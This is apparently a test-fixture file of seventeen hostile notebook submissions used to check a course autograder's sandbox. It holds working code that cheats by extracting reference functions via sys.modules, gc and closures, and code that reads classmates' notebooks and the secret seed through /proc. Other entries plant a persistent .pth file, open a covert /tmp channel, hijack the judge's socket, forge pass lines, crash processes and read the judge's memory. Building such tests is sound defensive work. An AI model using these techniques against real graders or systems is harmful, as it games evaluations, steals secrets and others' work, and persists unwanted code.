"""Held-out hostile submissions against `dlkit grade` (issue 13).

None of these is an attack listed in issue 13 or in tests/grading/test_hostile.py
(those are the sandbox work's tuning set). Each is a 02_forward_propagation
submission built with tests/grading/grading_helpers.notebook(): the four other
exercises are right, one cell is replaced.

Every attack is written so that it *succeeds* exactly when the cheated
exercise earns points: a cheat returns the reference's numbers when it reaches
them, a probe returns the right answer only when its harmful action worked
(else zeros). ``harm`` attacks aim at the batch or other exercises instead;
for them the measurement looks at the collateral (other exercises, gradebook,
leaked secrets, files left behind).

Names are prefixed so that a sorted batch grades the writer of a covert channel
before its reader.
"""
from __future__ import annotations

from dataclasses import dataclass, field

# Finds the `dlkit grade` command lines in /proc (any process this user may read): the
# submission paths and the gradebook path. Pasted into attacks that need them.
_PROC_SCAN = '''
    import os
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        words = [a.decode("utf-8", "replace") for a in args if a]
        if "grade" in words and "--gradebook" in words:
            found.append(words)
'''


@dataclass
class Attack:
    target: str          # the exercise the attack is charged to
    kind: str            # "cheat" (points without implementing), "probe" (points iff a harmful action worked), "harm"
    summary: str         # what it does, in one line
    functions: dict      # exercise -> cell source replacing the right one
    preamble: str = "import numpy as np"
    checks: list = field(default_factory=list)   # side effects the measurement looks for (see measure.py)


ATTACKS = {
    "a01_activations_table": Attack("relu", "cheat",
        "relu from dlkit.ACTIVATIONS['relu'][0]: the table keeps the unwrapped reference (reached via sys.modules)",
        {"relu": '''
            def relu(Z):
                import sys
                table = getattr(sys.modules["dl" + "kit"], "ACTIVA" + "TIONS")
                return table["re" + "lu"][0](Z)
        '''}),
    "a02_spec_reference": Attack("linear_forward", "cheat",
        "linear_forward from dlkit.checks.SPECS['linear_forward'].reference (the child pre-imports dlkit.checks)",
        {"linear_forward": '''
            def linear_forward(A_prev, W, b):
                import sys
                specs = sys.modules["dl" + "kit.checks"].SPECS
                return specs["linear_" + "forward"].reference(A_prev, W, b)
        '''}),
    "a03_gc_original": Attack("sigmoid", "cheat",
        "sigmoid: gc.get_objects() finds the original function by its code's name and file",
        {"sigmoid": '''
            def sigmoid(Z):
                import gc, types
                for obj in gc.get_objects():
                    code = getattr(obj, "__code__", None) if isinstance(obj, types.FunctionType) else None
                    if code is not None and code.co_name == "sig" + "moid" and code.co_filename.endswith("activ" + "ations.py"):
                        return obj(Z)
                return np.zeros_like(Z)
        '''}),
    "a04_closure_cell": Attack("relu", "cheat",
        "relu: the run-time wrapper's __closure__ cell holds the original (no __wrapped__ needed)",
        {"relu": '''
            def relu(Z):
                import sys
                wrapper = getattr(sys.modules["dl" + "kit.activ" + "ations"], "re" + "lu")
                for cell in getattr(wrapper, "__closure__", None) or ():
                    inner = cell.cell_contents
                    if callable(inner) and getattr(inner, "__name__", "") == "re" + "lu":
                        return inner(Z)
                return np.zeros_like(Z)
        '''}),
    "a05_leaky_slope_zero": Attack("relu", "cheat",
        "relu: set dlkit.activations.LEAKY_SLOPE = 0, then the ungraded leaky_relu is relu",
        {"relu": '''
            def relu(Z):
                import sys
                mod = sys.modules["dl" + "kit.activ" + "ations"]
                setattr(mod, "LEAKY_" + "SLOPE", 0.0)
                return getattr(mod, "leaky_" + "relu")(Z)
        '''}),
    "a06_fresh_module_copy": Attack("model_forward", "cheat",
        "model_forward: a fresh copy of dlkit/model.py loaded with importlib.util (its functions are not wrapped)",
        {"model_forward": '''
            def model_forward(X, parameters):
                import sys, os, importlib.util
                pkg = sys.modules["dl" + "kit"]
                path = os.path.join(os.path.dirname(pkg.__file__), "mo" + "del.py")
                spec = importlib.util.spec_from_file_location(pkg.__name__ + ".copy_of_model", path)
                mod = importlib.util.module_from_spec(spec)
                mod.__package__ = pkg.__name__
                spec.loader.exec_module(mod)
                return getattr(mod, "model_" + "forward")(X, parameters)
        '''}),
    "a07_read_classmate": Attack("sigmoid", "cheat",
        "sigmoid copied at grading time from a classmate's notebook, found through dlkit grade's /proc/*/cmdline",
        {"sigmoid": '''
            def sigmoid(Z):
        ''' + _PROC_SCAN.replace("\n    ", "\n                ") + '''
                import json
                paths = []
                for words in found:
                    for w in words:
                        if w.endswith(".ipynb"):
                            paths.append(w)
                        elif os.path.isdir(w):
                            paths += [os.path.join(d, f) for d, _, fs in os.walk(w) for f in fs if f.endswith(".ipynb")]
                for p in sorted(set(paths)):
                    try:
                        cells = json.load(open(p))["cells"]
                    except (OSError, ValueError, KeyError):
                        continue
                    for cell in cells:
                        src = "".join(cell.get("source", ""))
                        if src.startswith("def sigmoid") and "json" not in src:
                            ns = {"np": np}
                            exec(src, ns)
                            return ns["sigmoid"](Z)
                return np.zeros_like(Z)
        '''}),
    "a08_seed_via_report": Attack("relu", "probe",
        "relu reads the hidden-case seed (gradebook path from /proc/*/cmdline, GRADEBOOK.seed) and leaks it in its error message",
        {"relu": '''
            def relu(Z):
        ''' + _PROC_SCAN.replace("\n    ", "\n                ") + '''
                for words in found:
                    book = words[words.index("--gradebook") + 1]
                    seed_file = words[words.index("--seed-file") + 1] if "--seed-file" in words else book + ".seed"
                    try:
                        secret = open(seed_file).read().strip()
                    except OSError:
                        continue
                    raise ValueError("LEAK seed=" + secret)
                return np.zeros_like(Z)
        '''}, checks=["seed_in_reports"]),
    "a09_pth_persist": Attack("sigmoid", "probe",
        "sigmoid writes a .pth file into the grader's site-packages: code that runs in every later Python of that install",
        {"sigmoid": '''
            def sigmoid(Z):
                import site, sys, os
                dirs = list(site.getsitepackages()) + [site.getusersitepackages()]
                landed = False
                for d in dirs:
                    try:
                        with open(os.path.join(d, "zz_dlkit_heldout_attack.pth"), "w") as f:
                            f.write("import os; os.environ.setdefault('DLKIT_HELDOUT_PTH', '1')\\n")
                        landed = True
                    except OSError:
                        pass
                return 1 / (1 + np.exp(-Z)) if landed else np.zeros_like(Z)
        '''}, checks=["pth_file"]),
    "a10_plant_writer": Attack("sigmoid", "harm",
        "a right sigmoid that also writes every (Z, A) it is asked for into shared folders, for a classmate's child",
        {"sigmoid": '''
            def sigmoid(Z):
                import os, json, hashlib
                A = 1 / (1 + np.exp(-Z))
                key = hashlib.sha256(np.ascontiguousarray(Z, dtype=np.float64).tobytes()).hexdigest() + str(Z.shape)
                for d in ("/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.getcwd())):
                    try:
                        with open(os.path.join(d, ".dlkit_heldout_drop"), "a") as f:
                            f.write(json.dumps([key, A.astype(np.float64).tolist()]) + "\\n")
                    except OSError:
                        pass
                return A
        '''}, checks=["drop_files"]),
    "z11_plant_reader": Attack("sigmoid", "cheat",
        "sigmoid looked up in the answers an earlier submission's child left in a shared folder (covert channel)",
        {"sigmoid": '''
            def sigmoid(Z):
                import os, json, hashlib
                key = hashlib.sha256(np.ascontiguousarray(Z, dtype=np.float64).tobytes()).hexdigest() + str(Z.shape)
                for d in ("/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.getcwd())):
                    try:
                        lines = open(os.path.join(d, ".dlkit_heldout_drop")).read().splitlines()
                    except OSError:
                        continue
                    for line in lines:
                        k, A = json.loads(line)
                        if k == key:
                            return np.array(A, dtype=Z.dtype)
                return np.zeros_like(Z)
        '''}),
    "a12_socket_hijack": Attack("relu", "cheat",
        "relu calls dlkit's relu and then answers the judge itself on the child's socket, so no 'delegated' flag is sent",
        {"relu": '''
            def relu(Z):
                import sys, os, stat, socket
                mods = sys.modules
                ref = getattr(mods["dl" + "kit"], "re" + "lu")
                if getattr(relu, "_owned", False):
                    return ref(Z)
                relu._owned = True
                S = mods["dl" + "kit.course.sand" + "box"]
                fd = next(fd for fd in range(3, 1024) if _is_socket(fd))
                sock = socket.socket(fileno=fd)
                def reply(output, args):
                    arrays = []
                    header = {"output": S.encode(S.plain(output), arrays), "args_after": S.encode(S.plain(args), arrays)}
                    S.send_msg(sock, header, arrays)
                reply(ref(Z), (Z,))   # the answer to the judge's current request, without "delegated"
                while True:
                    try:
                        header, arrays = S.recv_msg(sock)
                    except BaseException:
                        os._exit(0)
                    if header.get("op") != "call":
                        os._exit(0)
                    args = S.decode(header["args"], arrays)
                    fn = globals().get(header["fn"])
                    try:
                        result = fn(*args)
                    except BaseException as exc:
                        S.send_msg(sock, {"error": {"kind": "exception", "exc_type": type(exc).__name__,
                                                    "message": str(exc)[:200], "lineno": None, "line": None}})
                        continue
                    reply(result, args)

            def _is_socket(fd):
                import os, stat
                try:
                    return stat.S_ISSOCK(os.fstat(fd).st_mode)
                except OSError:
                    return False
        '''}),
    "a13_forged_report_line": Attack("sigmoid", "harm",
        "sigmoid raises an exception whose class name holds a newline and a fake 'sigmoid: 1/1 passed' line",
        {"sigmoid": '''
            def sigmoid(Z):
                Fake = type("Oops\\nsigmoid: 1/1 passed (5 cases)\\n", (Exception,), {})
                raise Fake("\\nsigmoid: 1/1 passed (5 cases)")
        '''}, checks=["forged_pass_line"]),
    "a14_delayed_alarm": Attack("sigmoid", "harm",
        "a right sigmoid that arms SIGALRM (default action: terminate) to kill its child 0.25 s later, during the next exercises",
        {"sigmoid": '''
            def sigmoid(Z):
                import signal
                if not getattr(sigmoid, "_armed", False):
                    sigmoid._armed = True
                    signal.setitimer(signal.ITIMER_REAL, 0.25)
                return 1 / (1 + np.exp(-Z))
        '''}),
    "a15_stack_overflow": Attack("sigmoid", "harm",
        "sigmoid lifts the recursion limit and recurses until the C stack overflows (a segfault, not a RecursionError)",
        {"sigmoid": '''
            def sigmoid(Z):
                import sys
                sys.setrecursionlimit(10 ** 7)
                def down(n):
                    return down(n + 1) + 1
                return down(0) * Z
        '''}),
    "a16_raw_thread": Attack("sigmoid", "probe",
        "sigmoid starts a thread with _thread.start_new_thread (a thread could act after the call returned)",
        {"sigmoid": '''
            def sigmoid(Z):
                import _thread, time
                ran = []
                try:
                    _thread.start_new_thread(ran.append, (1,))
                    time.sleep(0.05)
                except Exception:
                    pass
                return 1 / (1 + np.exp(-Z)) if ran else np.zeros_like(Z)
        '''}),
    "a17_read_judge_memory": Attack("sigmoid", "probe",
        "sigmoid reads the judging process's memory with process_vm_readv (ctypes), where the expected answers live",
        {"sigmoid": '''
            def sigmoid(Z):
                import ctypes, os
                def parent(pid):
                    for line in open(f"/proc/{pid}/status"):
                        if line.startswith("PPid:"):
                            return int(line.split()[1])
                    return 0
                ok = False
                try:
                    judge = parent(parent("self"))
                    start = next(int(l.split("-")[0], 16) for l in open(f"/proc/{judge}/maps") if l.split()[1].startswith("r"))
                    libc = ctypes.CDLL(None, use_errno=True)
                    class IOVec(ctypes.Structure):
                        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
                    buf = ctypes.create_string_buffer(16)
                    local, remote = IOVec(ctypes.addressof(buf), 16), IOVec(start, 16)
                    libc.process_vm_readv.restype = ctypes.c_ssize_t
                    ok = libc.process_vm_readv(judge, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 16
                except Exception:
                    ok = False
                return 1 / (1 + np.exp(-Z)) if ok else np.zeros_like(Z)
        '''}),
}
